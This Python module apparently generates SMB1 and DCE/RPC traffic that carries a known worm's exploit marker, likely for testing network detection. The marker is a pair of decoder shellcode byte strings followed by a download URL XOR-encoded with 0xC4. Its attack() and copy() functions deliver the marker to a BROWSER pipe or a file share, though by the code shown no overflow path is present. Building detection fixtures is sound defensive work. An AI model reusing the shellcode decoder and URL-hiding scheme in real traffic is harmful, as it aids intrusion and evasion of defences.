"""SMB1 as a client speaks it, and the mark by which the worm's exploit is known: the published
decoder between zeros, with a URL hidden behind it. Nothing here works as an attack: there is no
path, nothing that overflows and no code."""
import struct

DECODERS = {
    "A": bytes.fromhex("e8ffffffffc15e8d4e108031c4416681394550" "75f5"),
    "B": bytes.fromhex("e8ffffffffc25f8d4f108031c4416681394d53" "75f5"),
}
MARKERS = {"A": b"EP", "B": b"MS"}
NEGOTIATE, TREE_CONNECT, NT_CREATE, WRITE_ANDX, TRANSACTION = 0x72, 0x75, 0xA2, 0x2F, 0x25
UNICODE = 0x8000
TREE, FILE = 2048, 0x4000


def mark(variant, url, whole=True):
    hidden = bytes(byte ^ 0xC4 for byte in bytes(60) + url.encode("latin-1"))
    end = MARKERS[variant] + bytes(60) if whole else b""
    return bytes(60) + DECODERS[variant] + hidden + end


def message(command, tree, words=b"", data=b"", flags=0):
    head = b"\xffSMB" + struct.pack("<BIBHH8sHHHHH", command, 0, 0, flags, 0, b"", 0, tree, 1, 0, 1)
    body = head + bytes([len(words) // 2]) + words + struct.pack("<H", len(data)) + data
    return struct.pack(">I", len(body)) + body


def negotiate():
    return message(NEGOTIATE, 0, b"", b"\2NT LM 0.12\0")


def connect(share):
    data = b"\0" + share.encode("utf-16-le") + b"\0\0?????\0"
    return message(TREE_CONNECT, 0xFFFF, struct.pack("<BBHHH", 0xFF, 0, 0, 0, 1), data, UNICODE)


def opened(name, tree=TREE):
    data = b"\0" + name.encode("utf-16-le") + b"\0\0"
    return message(NT_CREATE, tree, b"\xff" + bytes(47), data, UNICODE)


def write(data, tree=TREE, file=FILE):
    words = struct.pack("<BBHHIIHHHHHI", 0xFF, 0, 0, file, 0, 0, 0, 0, 0, len(data), 63, 0)
    return message(WRITE_ANDX, tree, words, data)


def transaction(data, tree=TREE):
    words = struct.pack("<22xHHBBHH", len(data), 32 + 1 + 32 + 2 + 7, 2, 0, 0x26, FILE)
    return message(TRANSACTION, tree, words, b"\\PIPE\\\0" + data)


def request(stub, flags=3):
    head = struct.pack("<BBBBIHHI", 5, 0, 0, flags, 0x10, 24 + len(stub), 0, 1)
    return head + struct.pack("<IHH", len(stub), 0, 31) + stub


def to_pipe(server):
    return negotiate() + connect(f"\\\\{server}\\IPC$") + opened("\\BROWSER")


def attack(server, variant, url, whole=True):
    """In two fragments, each written by itself, which part the decoder."""
    stub = mark(variant, url, whole)
    parts = request(stub[:70], 1), request(stub[70:], 2)
    return to_pipe(server) + b"".join(map(write, parts))


def copy(server, variant, url):
    share = connect(f"\\\\{server}\\samples") + opened("\\a.bin")
    return negotiate() + share + write(mark(variant, url))
